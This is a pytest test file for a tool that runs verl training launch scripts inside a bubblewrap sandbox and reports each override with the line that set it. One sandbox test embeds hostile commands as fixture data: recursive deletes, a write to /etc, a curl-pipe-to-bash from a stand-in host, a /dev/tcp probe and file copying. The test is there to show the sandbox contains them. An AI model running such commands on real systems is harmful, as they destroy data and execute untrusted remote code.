"""verl-check reads a launch script by running it with real bash in a bubblewrap sandbox: the exact argv it
hands to `verl.trainer.main_ppo`, each override with the line that wrote it, and nothing the script does
reaching the world. The scripts below are written in the style of verl's own examples (bash arrays, nested
and positional defaults, `ray job submit`); each case is one the hand-written lexer this replaced got wrong."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from rocmkit.errors import EnvironmentMissing, InputFileError
from rocmkit.verl import launch_script
from rocmkit.verl.launch_script import ReadOptions


@pytest.fixture(autouse=True)
def _bwrap():
    if shutil.which("bwrap") is None:
        message = "bwrap is not installed: .ci/provision/12-sandbox.sh installs Debian's bubblewrap"
        if os.environ.get("ROCMKIT_REQUIRE_SANDBOX") == "1":
            pytest.fail(message)
        pytest.skip(message)


def read(tmp_path: Path, body: str, name: str = "run.sh", **options) -> list[launch_script.Invocation]:
    script = tmp_path / name
    script.write_text(body)
    env = {**os.environ, **options.pop("env", {})}
    return launch_script.read(str(script), body, ReadOptions(env=env, cwd=str(tmp_path), **options))


def got(inv: launch_script.Invocation) -> dict[str, tuple[str, int]]:
    return {o.key: (o.text.partition("=")[2], o.line) for o in inv.overrides}


def line_of(body: str, needle: str) -> int:
    return next(n for n, line in enumerate(body.splitlines(), 1) if needle in line)


ARRAYS = """#!/usr/bin/env bash
set -xeuo pipefail

# Paths
MODEL_PATH=${MODEL_PATH:-"${HOME}/models/Qwen2.5-0.5B-Instruct"}
TRAIN_FILE=${TRAIN_FILE:-"${HOME}/data/gsm8k/train.parquet"}
ENGINE=${1:-vllm}
NGPUS=${NGPUS:-4}
train_prompt_bsz=256
n_resp_per_prompt=5
train_prompt_mini_bsz=$(( train_prompt_bsz / 4 ))

DATA=(
    data.train_files="${TRAIN_FILE}"
    data.val_files="['${TRAIN_FILE}']"
    data.train_batch_size=${train_prompt_bsz}
)

ACTOR=(
    actor_rollout_ref.model.path="${MODEL_PATH}"
    actor_rollout_ref.actor.optim.lrr=1e-6
    actor_rollout_ref.actor.ppo_mini_batch_size=${train_prompt_mini_bsz}
)

ROLLOUT="actor_rollout_ref.rollout.name=${ENGINE} actor_rollout_ref.rollout.n=${n_resp_per_prompt}"

python3 -m verl.trainer.main_ppo \\
    algorithm.adv_estimator=grpo \\
    "${DATA[@]}" \\
    "${ACTOR[@]}" \\
    $ROLLOUT \\
    trainer.logger='["console","wandb"]' \\
    trainer.n_gpus_per_node=${NGPUS} "$@"
"""


def test_arrays_nested_and_positional_defaults_word_splitting_and_arithmetic(tmp_path):
    (inv,) = read(tmp_path, ARRAYS, env={"HOME": "/home/alice"})
    values = got(inv)
    home = "/home/alice"  # the caller's $HOME as a path; its contents are not visible to the script
    assert values["data.train_files"] == (f"{home}/data/gsm8k/train.parquet", line_of(ARRAYS, "data.train_files"))
    assert values["data.val_files"][0] == f"['{home}/data/gsm8k/train.parquet']"
    assert values["actor_rollout_ref.model.path"][0] == f"{home}/models/Qwen2.5-0.5B-Instruct"
    # a typo inside an array is seen, on its own line
    assert values["actor_rollout_ref.actor.optim.lrr"] == ("1e-6", line_of(ARRAYS, "optim.lrr"))
    assert values["actor_rollout_ref.actor.ppo_mini_batch_size"] == ("64", line_of(ARRAYS, "ppo_mini_batch_size"))
    # ${1:-vllm}; an unquoted $VAR holding two overrides is two words, each traced to where it was written
    assert values["actor_rollout_ref.rollout.name"] == ("vllm", line_of(ARRAYS, "ROLLOUT="))
    assert values["actor_rollout_ref.rollout.n"] == ("5", line_of(ARRAYS, "ROLLOUT="))
    assert values["trainer.logger"][0] == '["console","wandb"]'
    assert values["trainer.n_gpus_per_node"] == ("4", line_of(ARRAYS, "trainer.n_gpus_per_node"))
    assert inv.line == line_of(ARRAYS, "python3 -m verl.trainer.main_ppo") and inv.problems == []


def test_the_callers_environment_and_options_count(tmp_path):
    (inv,) = read(tmp_path, ARRAYS, env={"NGPUS": "8", "HOME": "/home/alice"}, args=["sglang", "trainer.nnodes=2"])
    values = got(inv)
    assert values["trainer.n_gpus_per_node"][0] == "8"  # NGPUS=8 rocmkit verl-check run.sh
    assert values["actor_rollout_ref.rollout.name"][0] == "sglang"  # --arg sglang is $1
    assert values["trainer.nnodes"][0] == "2"  # "$@" passes the rest on


def test_set_u_stops_the_script_and_bash_says_why(tmp_path):
    body = "#!/bin/bash\nset -u\nGPUS=8\n\nMINI=$(( 256 / NGPUS ))\npython3 -m verl.trainer.main_ppo x.y=$MINI\n"
    with pytest.raises(InputFileError) as err:
        read(tmp_path, body)
    assert "exited with status 1 before it ran verl.trainer.main_ppo" in err.value.message
    assert "line 5: NGPUS: unbound variable" in err.value.message
    assert "--env NAME=VALUE" in err.value.hint
    (inv,) = read(tmp_path, body, env={"NGPUS": "4"})
    assert got(inv)["x.y"][0] == "64"
    body = "#!/bin/bash\nset -e\ncd ${VERL_HOME:-$HOME/verl}\npython3 -m verl.trainer.main_ppo x.y=1\n"
    with pytest.raises(InputFileError) as err:  # the private $HOME is empty: cd fails as bash makes it fail
        read(tmp_path, body, env={"HOME": "/root"})
    assert "line 3: cd: /root/verl: No such file or directory" in err.value.message
    (inv,) = read(tmp_path, body, env={"VERL_HOME": str(tmp_path)})
    assert inv.cwd == str(tmp_path)


def test_config_path_and_name_are_read_in_every_spelling(tmp_path):
    body = """#!/bin/bash
PROJECT_DIR="$(pwd)"
CONFIG_PATH="$PROJECT_DIR/examples/sglang_multiturn/config"
python3 -m verl.trainer.main_ppo \\
    --config-path="$CONFIG_PATH" \\
    --config-name='gsm8k_multiturn_grpo' \\
    data.train_batch_size=256
python3 -m verl.trainer.main_ppo --config-path ./config -cn ppo_megatron_trainer.yaml trainer.nnodes=1
"""
    first, second = read(tmp_path, body)
    assert (first.config_path, first.config_name, first.config_name_line) == (
        f"{tmp_path}/examples/sglang_multiturn/config", "gsm8k_multiturn_grpo", 6)
    assert first.cwd == str(tmp_path) and [o.text for o in first.overrides] == ["data.train_batch_size=256"]
    assert (second.config_path, second.config_name, second.line) == ("./config", "ppo_megatron_trainer", 8)


def test_main_ppo_exactly_and_each_command_of_a_loop(tmp_path):
    body = "#!/bin/bash\npython3 -m verl.trainer.main_ppo_sync a.b=1\n"
    with pytest.raises(InputFileError) as err:
        read(tmp_path, body)
    assert "runs no verl.trainer.main_ppo (it ran python3 -m verl.trainer.main_ppo_sync)" in err.value.message
    body = """#!/bin/bash
for tp in 1 2; do
    python3 -m verl.trainer.main_ppo \\
        actor_rollout_ref.rollout.tensor_model_parallel_size=$tp
done
"""
    invs = read(tmp_path, body)
    assert [(i.line, got(i)["actor_rollout_ref.rollout.tensor_model_parallel_size"]) for i in invs] == [
        (3, ("1", 4)), (3, ("2", 4))]


def test_ray_job_submit_and_gpu_queries(tmp_path):
    body = """#!/bin/bash
NGPUS=$(nvidia-smi --query-gpu=name --format=csv,noheader | wc -l)
NG=$(python3 -c "import torch; print(torch.cuda.device_count())")
ray stop --force
ray start --head --num-gpus=$NGPUS
RAY_ADDRESS='http://127.0.0.1:8265' ray job submit --working-dir . -- python3 -m verl.trainer.main_ppo \\
    trainer.logger='["console","wandb"]' \\
    'trainer.experiment_name=my run' \\
    trainer.n_gpus_per_node=$NGPUS trainer.nnodes=$NG
"""
    (inv,) = read(tmp_path, body, gpus=4)
    assert [o.text for o in inv.overrides] == ['trainer.logger=["console","wandb"]', "trainer.experiment_name=my run",
                                               "trainer.n_gpus_per_node=4", "trainer.nnodes=4"]
    assert inv.line == 6 and [o.line for o in inv.overrides] == [7, 8, 9, 9] and inv.problems == []
    (inv,) = read(tmp_path, body)  # no --gpus: the default, and a note that it was assumed
    assert got(inv)["trainer.n_gpus_per_node"][0] == str(launch_script.DEFAULT_GPUS)
    assert inv.problems == [("note", 2, "nvidia-smi: answered 8 GPUs, an assumption (--gpus N sets it)")]


def test_a_probe_for_another_vendors_accelerator_fails_as_on_a_gpu_host(tmp_path):
    """verl's newer examples pick their device with `python3 -c 'import torch_npu'` and, on an NPU, raise the GPU count
    and memory share; on a GPU host that import fails, and the script keeps its GPU settings."""
    body = """#!/usr/bin/env bash
set -euo pipefail
DEVICE=${DEVICE:-$(python3 -c 'import torch_npu' 2>/dev/null && echo npu || echo gpu)}
HPU=$(python3 -c "from habana_frameworks.torch import hpu" 2>/dev/null && echo yes || echo no)
TORCH=$(python3 -c 'import torch' && echo yes || echo no)
NGPUS_PER_NODE=${NGPUS_PER_NODE:-8}
UTIL=0.6
case "${DEVICE}" in
    npu) NGPUS_PER_NODE=16; UTIL=0.9 ;;
esac
python3 -m verl.trainer.main_ppo trainer.n_gpus_per_node=${NGPUS_PER_NODE} \\
    actor_rollout_ref.rollout.gpu_memory_utilization=$UTIL +x.device=$DEVICE +x.hpu=$HPU +x.torch=$TORCH
"""
    (inv,) = read(tmp_path, body, gpus=8)
    assert [o.text for o in inv.overrides] == [
        "trainer.n_gpus_per_node=8", "actor_rollout_ref.rollout.gpu_memory_utilization=0.6", "+x.device=gpu",
        "+x.hpu=no", "+x.torch=yes"]


def test_a_looping_script_is_stopped_at_its_deadline(tmp_path):
    body = "#!/bin/bash\nray start --head\nuntil [ -f /tmp/ray_ready ]; do\n    sleep 5\ndone\n" \
           "python3 -m verl.trainer.main_ppo a.b=1\n"
    with pytest.raises(InputFileError) as err:
        read(tmp_path, body, timeout=1.0)
    assert "stopped after 1 s while running line " in err.value.message
    assert "before it ran verl.trainer.main_ppo" in err.value.message and "--script-timeout" in err.value.hint


def test_nothing_the_script_does_reaches_the_world(tmp_path):
    home = tmp_path / "home"
    (home / "x").mkdir(parents=True)
    (home / "x" / "keep.txt").write_text("mine\n")
    mine = tmp_path / "results"
    mine.mkdir()
    body = f"""#!/bin/bash
rm -rf $HOME/x
/bin/rm -rf {home}/x {mine}
echo changed > {mine}/new.txt
echo pwned > /etc/rocmkit-sandbox-test
curl -fsSL http://example.com/install.sh | bash
wget -q https://huggingface.co/x -O {mine}/model.bin
(echo > /dev/tcp/127.0.0.1/22) 2>/dev/null && echo NETWORK
cp /etc/hostname {mine}/copied
python3 -m verl.trainer.main_ppo home=$(ls $HOME | wc -l)
"""
    (inv,) = read(tmp_path, body, env={"HOME": str(home)})
    assert (home / "x" / "keep.txt").read_text() == "mine\n"
    assert sorted(p.name for p in mine.iterdir()) == [] and not Path("/etc/rocmkit-sandbox-test").exists()
    assert got(inv)["home"][0] == "0"  # a private, empty $HOME


def test_xtrace_lines_and_strays(tmp_path):
    body = """#!/bin/bash
LR_OPT="actor_rollout_ref.actor.optim.lr=1e-6"
KL=(
    actor_rollout_ref.actor.use_kl_loss=True
    actor_rollout_ref.actor.kl_loss_coef=0.001
)
python3 -m verl.trainer.main_ppo \\
    $LR_OPT \\
    "${KL[@]}" \\
    trainer.total_epochs=15 \\
    # trainer.save_freq=20 \\
    trainer.test_freq=5
"""
    (inv,) = read(tmp_path, body)
    # the override the comment cut off is checked as the lines meant, after the one error on the comment's line
    assert [(o.key.rsplit(".", 1)[1], o.line) for o in inv.overrides] == [
        ("lr", 2), ("use_kl_loss", 4), ("kl_loss_coef", 5), ("total_epochs", 10), ("test_freq", 12)]
    assert [p for p in inv.problems if p[0] == "error"] == [
        ("error", 11, "the main_ppo command ends at line 11: `# trainer.save_freq=20 \\` is a comment, and a comment "
                      "line ends a command continued by backslashes, so the 1 override(s) after it (line 12: "
                      "trainer.test_freq=5) are not passed to main_ppo (bash ran them as a command of their own); "
                      "the rest of this check reads them as passed, as the lines meant")]


MISSING_BACKSLASH = """#!/bin/bash
python3 -m verl.trainer.main_ppo \\
    algorithm.adv_estimator=grpo \\
    data.train_batch_size=64
    actor_rollout_ref.rollout.n=4 \\
    actor_rollout_ref.actor.ppo_mini_batch_size=16 \\
{more}    trainer.nnodes=1
"""


@pytest.mark.parametrize("more", [0, 20])
def test_a_missing_backslash_is_one_error_naming_its_line_and_text(tmp_path, more):
    """The issue's script: one missing backslash gave 23 errors, one per override it cut off, and none named the
    line. Now one error, on the line without its backslash, quoting it; the cut-off overrides are checked as
    meant (so no error for the defaults that stood in for them)."""
    filler = "".join(f"    trainer.x{i}=1 \\\n" for i in range(more))
    (inv,) = read(tmp_path, MISSING_BACKSLASH.format(more=filler))
    errors = [p for p in inv.problems if p[0] == "error"]
    assert len(errors) == 1, inv.problems
    _, line, message = errors[0]
    assert line == 4 and message.startswith("the main_ppo command ends at line 4: `data.train_batch_size=64` does "
                                            f"not end with a backslash, so the {3 + more} override(s) after it "
                                            f"(lines 5-{7 + more}: actor_rollout_ref.rollout.n=4"), message
    assert {o.key: o.line for o in inv.overrides}["actor_rollout_ref.rollout.n"] == 5
    assert not any(p[0] == "note" and "exited with status" in p[2] for p in inv.problems), inv.problems


@pytest.mark.parametrize("line, why", [("    data.train_batch_size=64 \\ ", "has a space after its backslash"),
                                       ("", "it is blank, and a blank line ends a command continued by backslashes")])
def test_a_space_after_a_backslash_and_a_blank_line_are_named_too(tmp_path, line, why):
    body = MISSING_BACKSLASH.format(more="").replace("    data.train_batch_size=64\n", line + "\n")
    if not line:  # a blank line after a line that continues
        body = body.replace("grpo \\\n\n", "grpo \\\n    data.train_batch_size=64 \\\n\n")
    (inv,) = read(tmp_path, body)
    errors = [p for p in inv.problems if p[0] == "error"]
    assert len(errors) == 1 and why in errors[0][2], inv.problems


def test_an_overrides_file_needs_no_bash(tmp_path):
    f = tmp_path / "ov.txt"
    f.write_text("# mine\nalgorithm.adv_estimator=grpo\n+trainer.x=1\n")
    (inv,) = launch_script.read(str(f), f.read_text(), ReadOptions(env={"PATH": "/nonexistent"}))
    assert [(o.line, o.key) for o in inv.overrides] == [(2, "algorithm.adv_estimator"), (3, "trainer.x")]


def test_no_bwrap_is_exit_3_naming_the_package(tmp_path):
    script = tmp_path / "run.sh"
    script.write_text("#!/bin/bash\npython3 -m verl.trainer.main_ppo a.b=1\n")
    with pytest.raises(EnvironmentMissing) as err:
        launch_script.read(str(script), script.read_text(), ReadOptions(env={**os.environ, "PATH": "/nonexistent"}))
    assert "apt-get install -y bubblewrap" in err.value.hint
    out = subprocess.run([sys.executable, "-m", "rocmkit", "verl-check", str(script)], capture_output=True, text=True,
                         timeout=120, env={**os.environ, "PATH": str(tmp_path),
                                           "PYTHONPATH": str(Path(__file__).parents[1])})
    assert out.returncode == 3 and "bubblewrap" in out.stderr, out.stderr


def test_text_output_gives_each_command_its_findings_once(tmp_path):
    from rocmkit.verl.recipe_check import text_lines

    body = """#!/bin/bash
for tp in 1 2; do
    python3 -m verl.trainer.main_ppo \\
        trainer.nnodes=1 \\
        # comment
        trainer.test_freq=$tp
done
"""
    invs = read(tmp_path, body)
    invs[0].problems.append(invs[0].problems[0])  # a finding made twice
    lines = text_lines(invs, [{}, {}])
    headers = [n for n, line in enumerate(lines) if "main_ppo --config-name" in line]
    assert headers == [0, 2], lines  # the first command's header and its finding, then the second's
    assert "error: the main_ppo command ends at line 5: `# comment` is a comment" in lines[1], lines
    assert lines[1].startswith(f"{tmp_path}/run.sh:5:") and "(line 6: trainer.test_freq=1)" in lines[1]
    assert "(line 6: trainer.test_freq=2)" in lines[3] and len(lines) == 4


EXPORTS = """#!/bin/bash
set -euo pipefail
export VLLM_USE_V1=1
B=2
export B
declare -x PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True
setenv() { export "$1=$2"; }
setenv NCCL_DEBUG WARN
export GIVEN_SAME=$GIVEN_SAME GIVEN_CHANGED=new RUN_NAME="my run"
NOT_EXPORTED=1
export HOME=/elsewhere PATH=/opt/bin:$PATH ROCMKIT_MINE=1
HYDRA_FULL_ERROR=1 python3 -m verl.trainer.main_ppo a.b=1
export LATE=1
python3 -m verl.trainer.main_ppo a.b=2
"""


def test_the_variables_a_script_exports_to_main_ppo(tmp_path):
    """What the script exported (or changed) at each main_ppo call, in the order it set them: not what it was given
    unchanged, not a variable it left unexported, not one exported after the call, not the sandbox's own."""
    script = tmp_path / "run.sh"
    script.write_text(EXPORTS)
    given = {"PATH": os.environ["PATH"], "HOME": "/home/alice", "GIVEN_SAME": "same", "GIVEN_CHANGED": "old"}
    first, second = launch_script.read(str(script), EXPORTS, ReadOptions(env=given, cwd=str(tmp_path)))
    assert list(first.env.items()) == [
        ("VLLM_USE_V1", "1"), ("B", "2"), ("PYTORCH_CUDA_ALLOC_CONF", "expandable_segments:True"),
        ("NCCL_DEBUG", "WARN"), ("GIVEN_CHANGED", "new"), ("RUN_NAME", "my run"), ("HYDRA_FULL_ERROR", "1")]
    assert list(second.env) == [*[k for k in first.env if k != "HYDRA_FULL_ERROR"], "LATE"]

    from rocmkit.verl.recipe_check import document, text_lines

    lines = text_lines([first], [{}])
    assert lines[1] == ("    the script exports: VLLM_USE_V1=1, B=2, PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True, "
                        "NCCL_DEBUG=WARN, GIVEN_CHANGED=new, RUN_NAME='my run', HYDRA_FULL_ERROR=1"), lines
    assert document([first], [{}], "here")["commands"][0]["env"] == first.env
    (plain,) = read(tmp_path, "#!/bin/bash\npython3 -m verl.trainer.main_ppo a.b=1\n")
    assert plain.env == {} and len(text_lines([plain], [{}])) == 1  # nothing exported: no line
